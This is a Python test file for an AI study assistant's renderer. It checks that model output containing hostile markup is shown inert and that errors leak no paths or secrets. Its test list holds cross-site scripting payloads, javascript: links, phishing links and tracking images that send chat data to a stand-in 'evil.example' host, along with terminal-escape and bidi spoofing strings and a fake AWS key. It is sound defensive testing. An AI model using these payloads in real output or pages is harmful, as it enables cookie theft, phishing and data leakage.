"""Model output with <script>, javascript: links, external images, Markdown and terminal tricks is shown
inert in the CLI (assistant.answering.render.inert) and the UI (ui.common.safe, checked by rendering it as Markdown
with raw HTML allowed); a learner never sees a traceback, and no internal path or secret in its place."""
from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from assistant import cli
from assistant.answering.answer import Answer
from assistant.types import Citation
from assistant.answering.render import inert

HOSTILE = [
    "<script>alert(document.cookie)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    '<a href="https://evil.example">official AWS answer key</a>',
    "[click here](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[docs](https://evil.example/phish)",
    '[docs](https://evil.example/phish "AWS documentation")',
    "![tracker](https://evil.example/p.png?chat=secret)",
    "[![badge](http://evil.example/b.png)](http://evil.example)",
    "[the guide][1]\n\n[1]: javascript:alert(1)",
    "[the guide][g]\n\n   [g]: https://evil.example 'title'",
    "<https://evil.example/autolink>",
    "<javascript:alert(1)>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "\x1b]8;;https://evil.example\x1b\\click me\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[31mscreen cleared\x1b[0m",
    "\x9b31mC1 escape",
    "evil \u202etxt.exe\u202c file",
    "zero\u200bwidth",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# Fake heading\n---\n| a | b |\n|---|---|\n| c | d |",
    "**bold** _emphasis_ `code` ~~strike~~ $x^2$",
    "<details open><summary>Click</summary>hidden</details>",
    "<style>body{display:none}</style>",
]
TAG = re.compile(r"<\s*/?\s*(script|img|svg|iframe|a|style|details|summary|object|embed|form|input|meta|link)\b", re.I)
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("text", HOSTILE)
def test_cli_text_is_inert(text):
    shown = inert(text)
    assert not TAG.search(shown) and not CONTROL.search(shown)
    assert not re.search(r"(javascript|vbscript|data):", shown, re.I)
    assert not re.search(r"\]\(|^\s*\[[^\]]+\]:", shown, re.M)  # no inline link, image or link definition left
    assert "<http" not in shown


@pytest.mark.parametrize("text", HOSTILE)
def test_ui_text_renders_to_no_link_image_or_html(text):
    from ui.common import safe

    html = MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough").render(safe(text))
    assert not TAG.search(html), html  # no live element, even with raw HTML allowed
    assert "<a " not in html and "<img" not in html
    assert not re.search(r"<(h\d|table|hr|strong|em|code|del)\b", html)  # Markdown shown as typed, not rendered


def test_printed_answer_is_inert(capsys):
    citation = Citation(1, "c1", "notes/evil.md", "Evil <script>x</script>", HOSTILE[10] + " " + HOSTILE[6])
    answer = Answer(question="q", answer=" ".join(HOSTILE[:8]) + " [1]", citations=[citation],
                    unsupported=[HOSTILE[12]], refused=False, backend="fake", model="scripted")
    cli.print_answer(answer, streamed=False)
    out = capsys.readouterr().out
    assert not TAG.search(out.replace("Evil <script>x</script>", "")) and not CONTROL.search(out)
    assert "javascript:" not in out.lower() and "](" not in out and "\x1b" not in out


def test_the_learner_never_sees_a_traceback_path_or_secret(make_assistant, small_corpus, monkeypatch, capsys):
    assistant = make_assistant()
    assistant.ingest([small_corpus], progress=False)

    class Broken:
        backend, model, context_window = "fake", "broken", 4096

        def count_tokens(self, text):
            return len(text) // 4

        def stream(self, *a, **k):
            raise KeyError("/root/.aws/credentials aws_secret_access_key=wJalrXUtnFEMI/K7MDENG")

    assistant.use_llm(Broken())
    monkeypatch.setattr(cli, "build_assistant", lambda: assistant)
    monkeypatch.delenv("STUDY_DEBUG", raising=False)
    code = cli.main(["ask", "How do managed warm pools help consecutive training jobs?"])
    out = capsys.readouterr()
    shown = out.out + out.err
    assert code == 1 and "error: something went wrong (KeyError)" in out.err
    assert "Traceback" not in shown and "/root" not in shown and "wJalr" not in shown and "site-packages" not in shown
